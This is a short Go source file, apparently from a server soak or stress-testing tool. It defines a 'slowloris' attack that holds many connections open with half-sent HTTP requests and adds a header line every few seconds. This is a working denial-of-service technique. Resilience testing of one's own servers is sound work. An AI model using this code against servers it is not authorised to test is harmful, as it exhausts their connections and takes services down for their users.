package main

import (
	"context"
	"io"
	"net"
	"time"
)

// slowloris keeps servers waiting for the rest of a request.
var slowloris = attack{
	name: "slowloris", strength: 2000,
	about: "connections with half a request, and another header line now and then",
	run: func(ctx context.Context, t *target, n int) (string, error) {
		return hold(ctx, t, n, 0, func(ctx context.Context, c net.Conn) {
			go func() {
				_, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: soak\r\n")
				for err == nil && ctx.Err() == nil {
					wait(ctx, 5*time.Second)
					_, err = io.WriteString(c, "X-Still: here\r\n")
				}
			}()
			io.Copy(io.Discard, c) // until the machine ends it
		}).String(), nil
	},
}
